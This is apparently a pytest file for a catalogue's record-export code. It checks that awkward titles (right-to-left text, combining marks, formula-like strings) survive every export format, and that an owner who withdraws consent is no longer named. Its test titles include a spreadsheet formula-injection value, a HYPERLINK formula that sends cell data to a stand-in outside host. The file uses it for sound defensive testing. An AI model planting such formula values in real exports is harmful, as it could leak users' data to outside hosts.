"""Hard records through every format: each is read again by software others wrote, and says what was meant."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator

import pikepdf
import pyoxigraph as ox
import pytest

from guardbook.actions.export_records import export_records
from guardbook.catalogue.access import Access
from guardbook.catalogue.catalogue import Catalogue, open_catalogue
from guardbook.errors import NotFound
from guardbook.exports.formats import FORMATS
from guardbook.intake.cells import kept_from_running
from guardbook.records.base import Record
from tests.actions.packing import files_of, packed
from tests.catalogue.shelf import changed, made, placing, save, strip, volume
from tests.exports.citing import on_one_line
from tests.faults.read_again import READERS

TITLES = {
    "a formula": '=HYPERLINK("https://far.example/?"&A1;"open")',
    "a formula of the old kind": "@SUM(1;2) +3",
    "right to left": "רצועה 2 מספר תהילים (12)",
    "right to left within": "Strip \u2067רצועה\u2069 of 1512",
    "combining marks": "Fragme\u0301nt de\u0302 s\u0323\u0307alteri, e\u0301 na\u0308her",
    "astral characters": "𝔓𝔰𝔞𝔩𝔱𝔢𝔯 𐍈 and 🕮",
    "signs of every form": "<b>&amp;</b> {x} \\input \"q\" '' -- #5 %20 a|b ;,\t~",
}
each_format = pytest.mark.parametrize("name", READERS)
# those in which a text stands on one line
ON_ONE_LINE = {"citation", "csl", "bibtex", "ris", "datacite"}


def exported(access: Access, name: str, *records: Record) -> bytes:
    output = io.BytesIO()
    export_records(access, [record.id for record in records] or None, name, output)
    return output.getvalue()


def expected(name: str, title: str) -> str:
    """Give a title as its format has it."""
    if name in ON_ONE_LINE:
        return on_one_line(title)
    return kept_from_running(title) if name == "csv" else title


def hard(title: str) -> Record:
    return strip(title=title, height="120.5", width="40")


@pytest.fixture
def workshop(catalogue: Catalogue) -> Access:
    """Give the workshop's view of an empty catalogue."""
    return catalogue.access()


def test_every_format_has_a_reader() -> None:
    assert READERS.keys() == FORMATS.keys() - {"labels"}


@pytest.mark.parametrize("title", TITLES.values(), ids=TITLES)
def test_a_label_with_a_hard_title_can_be_printed(workshop: Access, title: str) -> None:
    save(workshop, hard(title))
    with pikepdf.open(io.BytesIO(exported(workshop, "labels", hard(title)))) as pdf:
        assert len(pdf.pages) == 1


@each_format
@pytest.mark.parametrize("title", TITLES.values(), ids=TITLES)
def test_a_hard_title_is_read_as_it_was_meant(workshop: Access, name: str, title: str) -> None:
    save(workshop, hard(title))
    found = READERS[name](exported(workshop, name, hard(title)))
    if name == "citation":
        assert any(expected(name, title).rstrip(". ") in line for line in found)
    else:
        assert expected(name, title) in found


@each_format
def test_all_hard_titles_together_are_as_many_records(workshop: Access, name: str) -> None:
    records = [strip(str(at), title=title, height="9", width="9") for at, title in enumerate(TITLES.values())]
    save(workshop, *records)
    found = READERS[name](exported(workshop, name))
    titles = {expected(name, title) for title in TITLES.values()}
    assert len(found) >= len(records) if name == "citation" else titles <= found


# rdflib, which reads them in the other tests, takes its time with as many statements
READ_BY_OURSELVES = {
    "turtle": ox.RdfFormat.TURTLE,
    "trig": ox.RdfFormat.TRIG,
    "nquads": ox.RdfFormat.N_QUADS,
    "rdfxml": ox.RdfFormat.RDF_XML,
    "crm": ox.RdfFormat.TURTLE,
}


def triples_in(data: bytes, name: str) -> set[str]:
    return {str(quad.triple) for quad in ox.parse(data, format=READ_BY_OURSELVES[name])}


def holes(count: int) -> Record:
    features = [{"featureKind": "sewing-hole", "x": f"{at % 100}.5", "y": str(at)} for at in range(count)]
    return strip(features=features, height="10000", width="100")


@pytest.fixture(scope="module")
def pierced() -> Iterator[Access]:
    """Keep a piece with ten thousand holes."""
    with open_catalogue(None) as catalogue:
        save(catalogue.access(), holes(10_000))
        yield catalogue.access()


@each_format
def test_ten_thousand_holes_are_told_or_passed_over_and_break_nothing(pierced: Access, name: str) -> None:
    piece = strip()
    data = exported(pierced, name, piece)
    found = READERS[name](data) if name not in READ_BY_OURSELVES else triples_in(data, name)
    if name == "citation":
        assert len(found) == 1
    elif name in READ_BY_OURSELVES:
        assert len(found) > 10_000
    else:
        assert piece.display_title in found
    if name in {"turtle", "trig", "nquads", "ntriples", "rdfxml", "jsonld", "tei"}:
        assert data.count(b"9999") >= 1


@each_format
def test_a_picture_that_is_missing_is_no_reason_to_tell_nothing(workshop: Access, name: str) -> None:
    piece = hard("A strip")
    lost = made(
        "image", "lost", title="Lost", depicts=[piece.id], file="images/lost.jpg", pixelWidth=9, pixelHeight=9
    )
    save(workshop, piece, lost)
    assert any("A strip" in text for text in READERS[name](exported(workshop, name, piece)))
    if name == "iiif":
        assert b"lost" not in exported(workshop, name, piece)
    every = exported(workshop, name)
    assert READERS[name](every)


def test_of_a_piece_with_nothing_but_a_lost_picture_no_manifest_can_be_made(workshop: Access) -> None:
    lost = made("image", "lost", depicts=[strip().id], file="images/lost.jpg", pixelWidth=9, pixelHeight=9)
    save(workshop, strip(), lost)
    with pytest.raises(NotFound):
        exported(workshop, "iiif", strip())


@pytest.fixture
def withdrawn(workshop: Access) -> Callable[[], None]:
    """Keep a piece of an owner who may be named, in a volume; give what takes the consent back."""
    owner = made("agent", "owner", name="Brun Okell", mayBeNamed=True)
    note = "Lent by Brun Okell (B. Okell), see Okell, Brun"
    piece = strip(
        owner=owner.id,
        keeper=owner.id,
        seenBy=owner.id,
        note=note,
        title="From Brun Okell",
        height="9",
        width="9",
    )
    save(workshop, owner, piece, volume(keeper=owner.id), placing(piece, volume(), by=[owner.id]))

    def take_back() -> None:
        save(workshop, changed(owner, may_be_named=False), from_revision=1)

    return take_back


def plain(data: bytes) -> bytes:
    """Give what is in an archive, or the data themselves."""
    if not zipfile.is_zipfile(io.BytesIO(data)):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


@each_format
def test_an_owner_who_took_back_consent_is_named_nowhere(
    public: Access, withdrawn: Callable[[], None], name: str
) -> None:
    before = exported(public, name)
    assert b"Okell" in plain(before)
    withdrawn()
    after = exported(public, name)
    assert b"Brun" not in plain(after)
    assert any("[name withheld]" in text for text in READERS[name](after))


def test_an_owner_who_took_back_consent_is_named_in_no_file_of_a_packet(
    public: Access, withdrawn: Callable[[], None]
) -> None:
    withdrawn()
    for name, content in files_of(packed(public, strip().id)).items():
        assert b"Brun" not in content, name
